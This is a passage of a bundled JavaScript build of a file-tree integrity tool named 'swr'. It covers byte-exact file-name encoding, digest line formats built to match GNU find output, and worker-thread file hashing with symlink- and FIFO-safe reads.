    if (q.abs && q.stateDir && inside_isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
        return "is in swr's state directory";
    if (secrets_isSecretPath(q.rel))
        return 'is a credential by name';
    let bytes = q.bytes;
    if (!bytes && q.abs) {
        try {
            bytes = readHead(q.abs);
        }
        catch {
            return undefined;
        }
    }
    return bytes ? secretContent(bytes, q.scan, q.rel) : undefined;
}

// EXTERNAL MODULE: external "node:buffer"
var external_node_buffer_ = __webpack_require__(4573);
;// CONCATENATED MODULE: ./src/core/walk/byte-names.mjs
// File names as the file system holds them: bytes, not necessarily UTF-8. Inside swr a name is a
// string: valid UTF-8 decodes as usual (so every existing digest, index and cache key is
// unchanged), and each byte that is not part of a valid UTF-8 sequence becomes the lone surrogate
// U+DC00 + byte, which no valid UTF-8 name can decode to. The mapping is one-to-one, so the
// string sorts, compares and survives JSON (the tree index, the cache) as the name itself, and
// bytesOf() gives the exact bytes back for system calls and digests. Plain JavaScript so the
// worker kernel (hash-kernel.mjs) can import it without a build.




const REPLACEMENT = '\ufffd'

/** The length of the valid UTF-8 sequence at `i`, or 0 when the byte there starts none. */
function sequenceAt(b, i) {
  const c = b[i]
  if (c < 0x80) return 1
  const cont = k => i + k < b.length && (b[i + k] & 0xc0) === 0x80
  if (c >= 0xc2 && c <= 0xdf) return cont(1) ? 2 : 0
  if (c >= 0xe0 && c <= 0xef) {
    if (!cont(1) || !cont(2)) return 0
    const c1 = b[i + 1]
    // Not overlong (E0 needs A0..BF), not a surrogate (ED needs 80..9F).
    if ((c === 0xe0 && c1 < 0xa0) || (c === 0xed && c1 > 0x9f)) return 0
    return 3
  }
  if (c >= 0xf0 && c <= 0xf4) {
    if (!cont(1) || !cont(2) || !cont(3)) return 0
    const c1 = b[i + 1]
    // Not overlong (F0 needs 90..BF), not beyond U+10FFFF (F4 needs 80..8F).
    if ((c === 0xf0 && c1 < 0x90) || (c === 0xf4 && c1 > 0x8f)) return 0
    return 4
  }
  return 0
}

/**
 * A name's bytes as swr's string.
 * @param {Buffer} b
 * @returns {string}
 */
function nameOf(b) {
  if ((0,external_node_buffer_.isUtf8)(b)) return b.toString('utf8')
  let out = ''
  let run = 0
  for (let i = 0; i < b.length;) {
    const n = sequenceAt(b, i)
    if (n > 0) {
      i += n
      continue
    }
    out += b.toString('utf8', run, i) + String.fromCharCode(0xdc00 + b[i])
    i++
    run = i
  }
  return out + b.toString('utf8', run)
}

/** Lone surrogates U+DC80..U+DCFF: the bytes nameOf could not decode (the u flag skips pairs). */
const ESCAPED_BYTE = /[\udc80-\udcff]/u

/**
 * The bytes a string from nameOf stands for (any string: text without escaped bytes is UTF-8).
 * @param {string} s
 * @returns {Buffer}
 */
function bytesOf(s) {
  if (s.isWellFormed()) return Buffer.from(s)
  const parts = []
  let run = ''
  for (const ch of s) {
    if (ch.length === 1 && ESCAPED_BYTE.test(ch)) {
      parts.push(Buffer.from(run), Buffer.of(ch.charCodeAt(0) - 0xdc00))
      run = ''
    } else run += ch
  }
  parts.push(Buffer.from(run))
  return Buffer.concat(parts)
}

/**
 * A path for fs calls: the string itself when it is plain text, else its bytes.
 * @param {string} s
 * @returns {string | Buffer}
 */
function fsPath(s) {
  return s.isWellFormed() ? s : bytesOf(s)
}

/**
 * The names in directory `dir`, as nameOf spells them. Listed as strings first (the common case,
 * and the cheapest); only a listing where Node had to substitute U+FFFD is read again as bytes.
 * @param {string} dir
 * @returns {string[]}
 */
function readNames(dir) {
  const p = fsPath(dir)
  const names = external_node_fs_.readdirSync(p)
  if (!names.some(n => n.includes(REPLACEMENT))) return names
  return external_node_fs_.readdirSync(p, { encoding: 'buffer' }).map(nameOf)
}

/**
 * The entries of `dir` with their listed types (d_type), names as nameOf spells them.
 * @param {string} dir
 * @returns {{ name: string, dir: boolean }[]}
 */
function readEntries(dir) {
  const p = fsPath(dir)
  const ents = external_node_fs_.readdirSync(p, { withFileTypes: true })
  if (!ents.some(d => d.name.includes(REPLACEMENT)))
    return ents.map(d => ({ name: d.name, dir: d.isDirectory() }))
  return external_node_fs_.readdirSync(p, { withFileTypes: true, encoding: 'buffer' })
    .map(d => ({ name: nameOf(d.name), dir: d.isDirectory() }))
}

/**
 * A link's target, as nameOf spells it (a target is bytes too).
 * @param {string} abs
 * @returns {string}
 */
function readTarget(abs) {
  return nameOf(external_node_fs_.readlinkSync(fsPath(abs), { encoding: 'buffer' }))
}

/**
 * A name for reports and logs: each byte that is not UTF-8 as \xNN, the backslash doubled (so
 * the result names exactly one file), and controls shown the way the printers' escapeText shows
 * them (\t \n \r, other C0, DEL and C1 as \xNN, bidi controls as \uNNNN), so what is printed
 * is one line and moves no cursor.
 * @param {string} s
 * @returns {string}
 */
function shownName(s) {
  return s.replace(SHOWN_ESCAPED, ch => {
    if (ch === '\\') return '\\\\'
    const c = ch.charCodeAt(0)
    if (c >= 0xdc80) return `\\x${(c - 0xdc00).toString(16)}`
    if (c === 0x09) return '\\t'
    if (c === 0x0a) return '\\n'
    if (c === 0x0d) return '\\r'
    if (c <= 0x9f) return `\\x${c.toString(16).padStart(2, '0')}`
    return `\\u${c.toString(16).padStart(4, '0')}`
  })
}

/** What shownName escapes: the backslash, every control (text/controls.mjs), non-UTF-8 bytes. */
const SHOWN_ESCAPED = new RegExp(`[\\\\${CONTROL_CLASS}\\udc80-\\udcff]`, 'gu')

// EXTERNAL MODULE: external "node:timers/promises"
var promises_ = __webpack_require__(58500);
// EXTERNAL MODULE: external "node:worker_threads"
var external_node_worker_threads_ = __webpack_require__(75919);
;// CONCATENATED MODULE: ./src/core/walk/walk-format.mjs
// The tree walk's definition, in one place: the order entries are visited in, the type letter and
// mode text each gets, and the lines the recorded digests are computed over. Every walker (the
// inline walk in walk.ts, the walk workers in hash-kernel.mjs, GNU find through native-walk.ts
// and its re-sort in find-lines.ts) takes its order and its lines from here, so a change here
// changes all of them at once. Any change to a line's spelling changes every recorded digest:
// recorded manifests then fail their metadata and content checks. Plain JavaScript so the worker
// kernel can import it without a build (as byte-names.mjs).
//
// Each entry below the tree's root gives one line to each digest:
//   meta:    relpath NUL type NUL size NUL mode LF        (size 0 unless a regular file)
//   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
//   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF (the incremental-cache key)
// and each special file (TYPE.other: a device, FIFO or socket) one more line to a digest of its own:
//   special: relpath NUL kind LF   ("char 1:3", "block 8:0", "fifo", "socket"; see specials.ts)
// The special lines came later than the other three and are kept apart from them on purpose: a
// device's numbers in the meta or content line would have changed every digest recorded before.



/**
 * Type letters: a regular file, a directory, a symlink, anything else. The first three are GNU
 * find's own -type letters, so its -type tests name them as they are.
 */
const TYPE = Object.freeze({ file: 'f', dir: 'd', link: 'l', other: 'o' })

/** The letters find can test for, in the order tested (anything else is TYPE.other). */
const FIND_TYPES = [TYPE.file, TYPE.dir, TYPE.link]

/**
 * The type letter of an lstat result (Stats or BigIntStats).
 * @param {import('node:fs').Stats | import('node:fs').BigIntStats} st
 */
function typeOf(st) {
  if (st.isFile()) return TYPE.file
  if (st.isDirectory()) return TYPE.dir
  if (st.isSymbolicLink()) return TYPE.link
  return TYPE.other
}

/**
 * Visit order among siblings: JavaScript string order (UTF-16 code units, names as byte-names.mjs
 * spells them). `sortNames` is the same order through the default sort, which is the fastest.
 * @param {string} a
 * @param {string} b
 */
function compareNames(a, b) {
  return a < b ? -1 : a > b ? 1 : 0
}

/**
 * Sort sibling names into visit order, in place.
 * @param {string[]} names
 */
function sortNames(names) {
  return names.sort()
}

const MODE_TEXT = new Map()

/**
 * Permission bits as four octal digits ("0755"); a handful of distinct modes, so cached.
 * @param {number} mode
 */
function modeText(mode) {
  let t = MODE_TEXT.get(mode)
  if (t === undefined) {
    t = (mode & 0o7777).toString(8).padStart(4, '0')
    MODE_TEXT.set(mode, t)
  }
  return t
}

/**
 * A time in stamp lines, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
 * and a zero), so find's lines need no conversion. Another spelling (a time before 1970) only
 * costs a cache miss.
 * @param {bigint} ns
 */
function stampTime(ns) {
  return stampTimeOf(ns.toString())
}

/**
 * stampTime of a time already spelled in decimal nanoseconds: the walk spells each time once
 * for its cache identity and cuts the stamp's spelling from it (no BigInt arithmetic per entry).
 * @param {string} ns
 */
function stampTimeOf(ns) {
  if (ns.startsWith('-')) return ns
  const t = ns.padStart(10, '0')
  return `${t.slice(0, -9)}.${t.slice(-9)}0`
}

/**
 * The nanoseconds a stamp time spells (stampTimeOf's inverse): the walk workers' lines are read
 * back into records when a diff needs them.
 * @param {string} text
 * @returns {bigint}
 */
function stampTimeNs(text) {
  if (text.startsWith('-')) return BigInt(text)
  return BigInt(text.slice(0, -1).replace('.', ''))
}

/** What separates a line's fields and ends a line, in the lines and in find's -printf escapes. */
const SEP = '\0'
const END = '\n'
// \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
const FIND_SEP = '\\000'
const FIND_END = '\\n'

/** The size field: only a regular file's size is part of the line. */
const sized = (type, size) => (type === TYPE.file ? size : 0)

// The two layouts below are each line's one definition. The Node walkers fill them with values,
// find with its -printf directives for the same values: path %p, size %s, mode %04m (modeText),
// device %D, inode %i, times %T@ and %C@ (stampTime).
const metaLayout = (path, type, size, mode, sep) => `${path}${sep}${type}${sep}${size}${sep}${mode}`
const stampLayout = (path, type, dev, ino, mtime, ctime, sep, end) =>
  `${path}${sep}${type}${sep}${dev}:${ino}:${mtime}:${ctime}${end}`

/**
 * The meta line's fields without its end: the head of the content line too.
 * @param {string} rel
 * @param {string} type
 * @param {number | bigint} size
 * @param {number} mode
 */
function metaFields(rel, type, size, mode) {
  return metaLayout(rel, type, sized(type, size), modeText(mode), SEP)
}

/**
 * One meta line.
 * @param {string} rel
 * @param {string} type
 * @param {number | bigint} size
 * @param {number} mode
 */
function metaLine(rel, type, size, mode) {
  return metaFields(rel, type, size, mode) + END
}

/**
 * The meta line of fields metaFields gave.
 * @param {string} fields
 */
function metaLineOf(fields) {
  return fields + END
}

/**
 * One content line: the meta fields and the file's sha256 or the link's target ('' otherwise).
 * @param {string} fields metaFields of the entry
 * @param {string} extra
 */
function contentLine(fields, extra) {
  return `${fields}${SEP}${extra}${END}`
}

/**
 * One special line: a special file's path and what it is (specials.ts spells `kind`).
 * @param {string} rel
 * @param {string} kind
 */
function specialLine(rel, kind) {
  return `${rel}${SEP}${kind}${END}`
}

/**
 * One stamp line.
 * @param {string} rel
 * @param {string} type
 * @param {bigint} dev
 * @param {bigint} ino
 * @param {bigint} mtimeNs
 * @param {bigint} ctimeNs
 */
function stampLine(rel, type, dev, ino, mtimeNs, ctimeNs) {
  return stampLayout(rel, type, dev, ino, stampTime(mtimeNs), stampTime(ctimeNs), SEP, END)
}

// Every line starts with its path. The walk workers write the path as bytes (a name need not be
// UTF-8) and then the rest of the line, its tail, spelled here as for a path of ''.

/**
 * The meta fields after the path: metaFields of the same values is the path, then this.
 * @param {string} type
 * @param {number} size
 * @param {number} mode
 */
function metaTail(type, size, mode) {
  return metaFields('', type, size, mode)
}

/**
 * A stamp line after its path, from values spelled in decimal (times in nanoseconds, as
 * identText takes them).
 * @param {string} type
 * @param {string} dev
 * @param {string} ino
 * @param {string} mtimeNs
 * @param {string} ctimeNs
 */
function stampTail(type, dev, ino, mtimeNs, ctimeNs) {
  return stampLayout('', type, dev, ino, stampTimeOf(mtimeNs), stampTimeOf(ctimeNs), SEP, END)
}

/**
 * find's -printf format for one kind of line and one type letter: the same layout, with find's
 * directives for the values.
 * @param {'meta' | 'stamp'} kind
 * @param {string} type
 */
function findFormat(kind, type) {
  return kind === 'meta'
    ? metaLayout('%p', type, sized(type, '%s'), '%04m', FIND_SEP) + FIND_END
    : stampLayout('%p', type, '%D', '%i', '%T@', '%C@', FIND_SEP, FIND_END)
}

/**
 * find's expression printing one line per entry: a -type test and -printf for each letter find
 * can test, then TYPE.other for the rest.
 * @param {'meta' | 'stamp'} kind
 * @returns {string[]}
 */
function findPrintArgs(kind) {
  return [
    ...FIND_TYPES.flatMap((t, i) => [
      ...(i > 0 ? ['-o'] : []),
      '-type',
      t,
      '-printf',
      findFormat(kind, t)
    ]),
    '-o',
    '-printf',
    findFormat(kind, TYPE.other)
  ]
}

/** The bytes find's lines are split on, and the type letter that opens a subtree. */
const LINE_END = END.charCodeAt(0)
const FIELD_SEP = SEP.charCodeAt(0)
const DIR_BYTE = TYPE.dir.charCodeAt(0)

/**
 * An entry's identity in the per-file cache: dev:ino:mtime_ns:ctime_ns (raw nanoseconds).
 * @param {bigint | string} dev
 * @param {bigint | string} ino
 * @param {bigint | string} mtimeNs
 * @param {bigint | string} ctimeNs
 */
function identText(dev, ino, mtimeNs, ctimeNs) {
  return `${dev}:${ino}:${mtimeNs}:${ctimeNs}`
}

/**
 * A file's value in the per-file cache: its identity, size and sha256.
 * @param {string} ident
 * @param {number} size
 * @param {string} sha256
 */
function cacheText(ident, size, sha256) {
  return `${ident} ${size} ${sha256}`
}

/**
 * The entries of one directory in visit order, each lstat'ed (never followed): `each` gets its
 * absolute path, its path relative to the tree, its type letter and its BigIntStats. Names in
 * `rules.skip` are left out before their lstat, absolute paths in `rules.exclude` too, and
 * entries `rules.ignored` matches after it. Throws when the directory cannot be listed.
 * @param {string} absDir
 * @param {string} relDir '' for the tree's root
 * @param {WalkRules} rules
 * @param {EachEntry} each
 */
function eachChild(absDir, relDir, rules, each) {
  inOrder(absDir, relDir, sortNames(readNames(absDir)), rules, each)
}

function inOrder(absDir, relDir, names, rules, each) {
  const { skip, exclude, ignored } = rules
  for (const name of names) {
    if (skip?.has(name)) continue
    const abs = `${absDir}/${name}`
    if (exclude.has(abs)) continue
    const st = external_node_fs_.lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false })
    if (!st) continue // vanished between readdir and lstat: the same as not there
    const rel = relDir ? `${relDir}/${name}` : name
    if (ignored?.(rel, name, st.isDirectory())) continue
    each(abs, rel, typeOf(st), st)
  }
}

/**
 * The walk: depth first, each directory's children in visit order, each followed by its own
 * subtree, so no global sort is needed. Directories that cannot be listed are added to
 * `unreadable` with their error code (the root as '.').
 * @param {string} rootAbs
 * @param {string} rootRel
 * @param {WalkRules} rules
 * @param {EachEntry} each
 * @param {{ rel: string, code: string }[]} unreadable
 */
function visitTree(rootAbs, rootRel, rules, each, unreadable) {
  const visit = (absDir, relDir) => {
    let names
    try {
      names = sortNames(readNames(absDir))
    } catch (err) {
      unreadable.push({ rel: relDir || '.', code: err?.code ?? 'EIO' })
      return
    }
    inOrder(absDir, relDir, names, rules, (abs, rel, type, st) => {
      each(abs, rel, type, st)
      if (type === TYPE.dir) visit(abs, rel)
    })
  }
  visit(rootAbs, rootRel)
}

/**
 * @typedef {{ skip?: ReadonlySet<string>, exclude: ReadonlySet<string>,
 *   ignored?: (rel: string, name: string, isDir: boolean) => boolean }} WalkRules
 * @typedef {(abs: string, rel: string, type: string, st: import('node:fs').BigIntStats) => void} EachEntry
 */

;// CONCATENATED MODULE: ./src/core/walk/hash-kernel.mjs
// The hashing kernel, shared by the main thread and the hash workers. Plain JavaScript so the same
// file runs as a worker_threads script from src/ (tests) and from dist/ (the bundles) without a
// build step. Synchronous reads into one reused buffer measured 3-6x faster than fs.promises
// here; files are opened with O_NOFOLLOW (a symlink swapped in for a file is an error, never a
// read elsewhere) and O_NONBLOCK (a FIFO planted in a tree cannot hang the check).






const MIB = 1024 * 1024
const READ_FLAGS = external_node_fs_.constants.O_RDONLY | external_node_fs_.constants.O_NOFOLLOW | (external_node_fs_.constants.O_NONBLOCK ?? 0)

/** @type {Buffer | undefined} */
let shared

function buffer() {
  shared ??= Buffer.allocUnsafe(MIB)
  return shared
}

function notAFile(abs) {
  return Object.assign(new Error(`${abs}: not a regular file`), { code: 'ENOTFILE' })
}

function readFully(fd, buf, length, position) {
  let got = 0
  while (got < length) {
    const n = external_node_fs_.readSync(fd, buf, got, length - got, position + got)
    if (n === 0) break
    got += n
  }
  return got
}

/**
 * sha256 of a regular file's bytes, with size and mode read from the same descriptor. `stamped`
 * adds the descriptor's identity and times as they were after the last read, so a caller can tell
 * the bytes belong to the state it saw before (capture's "changed while read" check) without
 * another lstat on its own thread.
 * @param {string} abs
 * @param {boolean} [stamped]
 */
function hashFile(abs, stamped = false) {
  const { fd, st } = openFile(abs)
  try {
    const buf = buffer()
    const h = (0,external_node_crypto_.createHash)('sha256')
    for (;;) {
      const n = external_node_fs_.readSync(fd, buf, 0, buf.length, null)
      if (n === 0) break
      h.update(n === buf.length ? buf : buf.subarray(0, n))
    }
    return digested(h, fd, st, stamped)
  } finally {
    external_node_fs_.closeSync(fd)
  }
}

/** A regular file opened for hashing (never through a link, never blocking on a FIFO). */
function openFile(abs) {
  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
  try {
    const st = external_node_fs_.fstatSync(fd)
    if (!st.isFile()) throw notAFile(abs)
    return { fd, st }
  } catch (err) {
    external_node_fs_.closeSync(fd)
    throw err
  }
}

/** hashFile's result once every byte went into `h`. */
function digested(h, fd, st, stamped) {
  const out = { sha256: h.digest('hex'), size: st.size, mode: st.mode & 0o7777 }
  if (!stamped) return out
  const after = external_node_fs_.fstatSync(fd, { bigint: true })
  const { ino, size, mtimeNs, ctimeNs } = after
  return { ...out, after: { ino, size, mtimeNs, ctimeNs } }
}

/**
 * hashFile on the main thread, one read at a time with `turn` awaited after each, reading the
 * next chunk on libuv's threadpool while it hashes this one whenever `spare()` says another core
 * is idle: the copy out of the page cache (~30% of a cached file's time here) then overlaps the
 * hash. Otherwise, or when a core is busy (a tree walk), it reads as hashFile does: a read
 * ahead competes with that core's work and measured slower. Same bytes, same result.
 * @param {string} abs
 * @param {boolean} stamped
 * @param {Buffer} first the buffer for reads made here
 * @param {() => Buffer} second a buffer of the same size for reads ahead (asked for when needed)
 * @param {() => boolean} spare
 * @param {() => Promise<void>} turn
 */
async function hashFileAhead(abs, stamped, first, second, spare, turn) {
  const { fd, st } = openFile(abs)
  /** @type {Promise<number> | undefined} */
  let ahead
  try {
    const h = (0,external_node_crypto_.createHash)('sha256')
    let cur = first
    /** @type {Buffer | undefined} */
    let other
    let at = 0
    for (;;) {
      const n = ahead ? await ahead : external_node_fs_.readSync(fd, cur, 0, cur.length, at)
      ahead = undefined
      if (n === 0) break
      at += n
      const full = n === cur.length
      let next = cur
      if (full && spare()) {
        other ??= second()
        ahead = readAt(fd, other, at)
        next = other
      }
      h.update(full ? cur : cur.subarray(0, n))
      await turn()
      if (next !== cur) [cur, other] = [next, cur]
    }
    return digested(h, fd, st, stamped)
  } finally {
    // Never close a descriptor a read in flight still uses (its number could be reused).
    await ahead?.catch(() => 0)
    external_node_fs_.closeSync(fd)
  }
}

function readAt(fd, buf, position) {
  return new Promise((resolve, reject) =>
    external_node_fs_.read(fd, buf, 0, buf.length, position, (err, n) => (err ? reject(err) : resolve(n)))
  )
}

/** One-shot hashing (Node >= 20.12): no Hash object per file. */
const oneShot = typeof external_node_crypto_.hash === 'function' ? buf => external_node_crypto_.hash('sha256', buf) : undefined

/**
 * sha256 of a file the walk has just lstat'ed as a regular file of `size` bytes: no fstat, and a
 * file that fits the buffer is read with one call for one byte more than `size` (two system calls
 * fewer per file than hashFile, measured ~30% less CPU per small file). The lstat already said
 * what it is; O_NOFOLLOW and O_NONBLOCK cover a swap to a link or a FIFO, and reading stops one
 * byte past `size`, so a file swapped or grown since (even an endless device) is read no further
 * than it takes to know its bytes are not the ones the walk described.
 * @param {string} abs
 * @param {number} size
 * @returns {string}
 */
function hashWalked(abs, size) {
  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
  try {
    const buf = buffer()
    if (size < buf.length) {
      // A regular file reads in full: `size` bytes back means the end, no second call to see it.
      let got = external_node_fs_.readSync(fd, buf, 0, size + 1, 0)
      while (got > 0 && got < size) {
        const n = external_node_fs_.readSync(fd, buf, got, size + 1 - got, got)
        if (n === 0) break
        got += n
      }
      const bytes = buf.subarray(0, got)
      return oneShot ? oneShot(bytes) : (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex')
    }
    const h = (0,external_node_crypto_.createHash)('sha256')
    let left = size + 1
    while (left > 0) {
      const n = external_node_fs_.readSync(fd, buf, 0, Math.min(buf.length, left), null)
      if (n === 0) break
      h.update(n === buf.length ? buf : buf.subarray(0, n))
      left -= n
    }
    return h.digest('hex')
  } finally {
    external_node_fs_.closeSync(fd)
  }
}

/**
 * The blob head/tail digest: sha256 of the decimal size, the first MiB, and the last MiB when the
 * file is larger than one MiB. Reads at most 2 MiB whatever the file's size.
 * @param {string} abs
 * @param {Buffer} [buf] at least one MiB (the main thread passes its own)
 * @returns {{ sha256: string, size: number, mode: number }}
 */
function hash_kernel_hashHeadTail(abs, buf = buffer()) {
  const { fd, st } = openFile(abs)
  try {
    const h = (0,external_node_crypto_.createHash)('sha256').update(String(st.size))
    h.update(buf.subarray(0, readFully(fd, buf, Math.min(MIB, st.size), 0)))
    if (st.size > MIB) h.update(buf.subarray(0, readFully(fd, buf, MIB, st.size - MIB)))
    return { sha256: h.digest('hex'), size: st.size, mode: st.mode & 0o7777 }
  } finally {
    external_node_fs_.closeSync(fd)
  }
}

/**
 * Run one job; errors come back as their code so one unreadable file never stops the others.
 * @param {string} abs
 * @param {'full' | 'stamped' | 'headtail'} how
 */
function runJob(abs, how) {
  try {
    return how === 'headtail' ? hash_kernel_hashHeadTail(abs) : hashFile(abs, how === 'stamped')
  } catch (err) {
    return { error: typeof err?.code === 'string' ? err.code : 'EIO' }
  }
}

// A hash task: claim job indices from a shared counter (largest files were sorted first by the
// pool), post results in batches so 60,000 small files do not cost 60,000 messages.
function hashTask({ paths, hows, counter }) {
  const next = new Int32Array(counter)
  let batch = []
  for (;;) {
    const i = Atomics.add(next, 0, 1)
    if (i >= paths.length) break
    batch.push([i, runJob(paths[i], hows[i])])
    if (batch.length >= 512) {
      external_node_worker_threads_.parentPort.postMessage(batch)
      batch = []
    }
  }
  external_node_worker_threads_.parentPort.postMessage(batch)
}

/** hashWalked, or undefined when the file cannot be read (it is then reported unreadable). */
function walkedOrError(abs, size) {
  try {
    return hashWalked(abs, size)
  } catch {
    return undefined
  }
}

/**
 * Lines written as bytes as they are made: no line's strings outlive the line. (Strings kept
 * until the subtree ended were most of the walk's garbage: its scavenges copied every one of
 * them.) A sink is kept by its thread from one subtree to the next and writes into a buffer of
 * CHUNK bytes: a chunk it fills is handed over whole and uncopied (a new one replaces it), and
 * the last one's few bytes are copied out, so the buffer's pages, once touched, serve the next
 * subtree. A first touch is the dearest thing a walk does on some virtual machines (~20 us a
 * page measured here, where reading and hashing a small file costs ~40 us), and most subtrees
 * of a large tree (a package each) are small: a chunk each, handed over, cost `nm` ~15% more.
 */
class Sink {
  static CHUNK = 1 << 20
  /** A last chunk holding more is handed over too: copying it would touch its size again. */
  static COPIED = 1 << 16
  /** @type {Uint8Array[]} */
  chunks = []
  buf = Buffer.allocUnsafeSlow(Sink.CHUNK)
  pos = 0

  room(n) {
    if (this.pos + n <= this.buf.length) return
    this.chunks.push(new Uint8Array(this.buf.buffer, this.buf.byteOffset, this.pos))
    this.buf = Buffer.allocUnsafeSlow(Math.max(Sink.CHUNK, n))
    this.pos = 0
  }

  /** Text known to be ASCII (numbers, hex, type letters, separators): a loop beats a call. */
  ascii(s) {
    const n = s.length
    this.room(n)
    const b = this.buf
    let p = this.pos
    for (let i = 0; i < n; i++) b[p++] = s.charCodeAt(i)
    this.pos = p
  }

  /** Any text, names included: UTF-8, or the bytes a name stands for (byte-names.mjs). */
  text(s) {
    if (s.isWellFormed()) {
      this.room(s.length * 3)
      this.pos += this.buf.utf8Write(s, this.pos)
    } else {
      const b = bytesOf(s)
      this.room(b.length)
      this.pos += b.copy(this.buf, this.pos)
    }
  }

  /** The bytes written since the last call, each chunk with a buffer of its own; then empty. */
  take() {
    const out = this.chunks
    if (this.pos > Sink.COPIED) {
      out.push(new Uint8Array(this.buf.buffer, this.buf.byteOffset, this.pos))
      this.buf = Buffer.allocUnsafeSlow(Sink.CHUNK)
    } else if (this.pos > 0) {
      out.push(new Uint8Array(this.buf.subarray(0, this.pos)))
    }
    this.reset()
    return out
  }

  /** Forget what was written (a subtree that failed midway leaves nothing for the next). */
  reset() {
    this.chunks = []
    this.pos = 0
  }
}

/** This thread's sinks, one per kind of output, reused by every subtree it walks. */
let sinks

function freshSinks() {
  sinks ??= {
    shas: new Sink(),
    meta: new Sink(),
    stamp: new Sink(),
    content: new Sink(),
    cache: new Sink()
  }
  for (const sink of Object.values(sinks)) sink.reset()
  return sinks
}

/** A sha256 slot of a file that could not be hashed (or of an entry that is not a file). */
const NO_SHA = '-'.repeat(64)

/**
 * A subtree walked (and, with `hash`, its files hashed) in one pass, returned in a form that
 * crosses to the main thread cheaply and asks nothing more of it than hashing in walk order: the
 * digest lines exactly as walk-format.mjs spells them (meta, stamp and, with `hash`, content),
 * each file's sha256 in a fixed-width column, and the per-file cache entries as a JSON fragment.
 * The lines are also the records: the main thread reads them back (walk-workers.ts) only when a
 * diff needs them, so no per-entry value is kept here. Each number is spelled once per entry
 * (the identity and the stamp share it).
 */
function subtreeLines(rootAbs, rootRel, rules, hash) {
  const { shas, meta, stamp, content, cache } = freshSinks()
  const unreadable = []
  let count = 0
  let files = 0
  let failed = 0
  const each = (abs, rel, type, st) => {
    const size = type === TYPE.file ? Number(st.size) : 0
    const mode = Number(st.mode & 0o7777n)
    count++
    if (type !== TYPE.dir) files++
    const tail = metaTail(type, size, mode)
    meta.text(rel)
    meta.ascii(metaLineOf(tail))
    const dev = st.dev.toString()
    const ino = st.ino.toString()
    const mtime = st.mtimeNs.toString()
    const ctime = st.ctimeNs.toString()
    stamp.text(rel)
    stamp.ascii(stampTail(type, dev, ino, mtime, ctime))
    if (!hash) return void shas.ascii(NO_SHA)
    content.text(rel)
    if (type === TYPE.file) {
      const sha = walkedOrError(abs, size)
      shas.ascii(sha ?? NO_SHA)
      content.ascii(contentLine(tail, sha ?? ''))
      if (sha === undefined) return void failed++
      const value = cacheText(identText(dev, ino, mtime, ctime), size, sha)
      cache.ascii(',')
      cache.text(`${JSON.stringify(rel)}:${JSON.stringify(value)}`)
      return
    }
    shas.ascii(NO_SHA)
    let target = ''
    if (type === TYPE.link) {
      try {
        target = readTarget(abs)
      } catch {
        // As walk.ts's linkTargets: an unreadable target reads as empty.
      }
    }
    content.text(contentLine(tail, target))
  }
  visitTree(rootAbs, rootRel, rules, each, unreadable)
  return {
    count,
    files,
    failed,
    shas: shas.take(),
    meta: meta.take(),
    stamp: stamp.take(),
    content: hash ? content.take() : undefined,
    cache: hash ? cache.take() : undefined,
    unreadable
  }
}

/**
 * The digest lines of a subtree as one string, without per-entry records: `meta` lines (relpath,
 * type, size, mode) or `stamp` lines (relpath and identity), as walk-format.mjs spells them.
 */
function subtreeText(rootAbs, rootRel, rules, kind) {
  const chunks = []
  let text = ''
  let files = 0
  const unreadable = []
  const each = (_abs, rel, type, st) => {
    text +=
      kind === 'meta'
        ? metaLine(rel, type, st.size, Number(st.mode & 0o7777n))
        : stampLine(rel, type, st.dev, st.ino, st.mtimeNs, st.ctimeNs)
    if (text.length > 1 << 16) {
      chunks.push(text)
      text = ''
    }
    if (type !== TYPE.dir) files++
  }
  visitTree(rootAbs, rootRel, rules, each, unreadable)
  chunks.push(text)
  return { text: chunks.join(''), files, unreadable }
}

/**
 * A walk task's rules: plain names only (skipped before their lstat); glob rules keep the walk
 * in the main thread.
 */
function walkRules(task) {
  return { skip: new Set(task.names), exclude: new Set(task.exclude) }
}

/**
 * Root `i` of a walk task, walked here: its text (role 'text') or its lines, and the buffers a
 * thread hands over with it.
 */
function walkRoot(task, rules, i) {
  const { abs, rel } = task.roots[i]
  if (task.role === 'text') return { out: subtreeText(abs, rel, rules, task.kind), chunks: [] }
  const out = subtreeLines(abs, rel, rules, task.hash)
  const chunks = [out.shas, out.meta, out.stamp, out.content ?? [], out.cache ?? []].flat()
  return { out, chunks }
}

// A walk task: claim roots from a shared counter, post each root's result with its index.
function walkTask(task) {
  const rules = walkRules(task)
  const next = new Int32Array(task.counter)
  for (;;) {
    const i = Atomics.add(next, 0, 1)
    if (i >= task.roots.length) break
    const { out, chunks } = walkRoot(task, rules, i)
    external_node_worker_threads_.parentPort.postMessage(
      [i, out],
      chunks.map(c => c.buffer)
    )
  }
}

// A kernel thread (see kernel-threads.ts) runs one task per message, then says 'done' and waits.
if (!external_node_worker_threads_.isMainThread && external_node_worker_threads_.workerData?.swrKernelThread) {
  Atomics.store(new Int32Array(external_node_worker_threads_.workerData.ready), 0, 1)
  external_node_worker_threads_.parentPort.on('message', task => {
    if (task.role === 'hash') hashTask(task)
    else walkTask(task)
    external_node_worker_threads_.parentPort.postMessage('done')
  })
}

;// CONCATENATED MODULE: ./src/core/walk/kernel-threads.ts
/**
 * The kernel's worker threads, kept for the life of the process and never more than the cores.
 * A thread costs 60-110 ms to start (most of it Node compiling its own internals), more than
 * hashing a 459-file tree inline; `swr add --from` capturing 25 entries used to start 24 of them,
 * and a check with a blob started one thread for the blob beside one per core for the walk,
 * three threads fighting over two cores.
 *
 * A task asks for up to N threads. It gets the free ones at once; when none is free it waits
 * for the first, and threads that come free later join it: the kernel's tasks share their work
 * through a counter, so a late thread takes what is left (or finds nothing and says so). A blob
 * hashing on one thread therefore delays no walk: the walk starts on the other core and the
 * blob's thread joins it when the blob is done.
 *
 * An idle thread is unreferenced (it never keeps the process alive) and ends after a short idle
 * spell, so a long-lived host (a test runner) does not collect them.
 */


/** How long an idle thread waits for another task before it ends. */
const IDLE_MS = 2000;
/** Where the kernel lives next to this module, in src/ and in every bundle alike. */
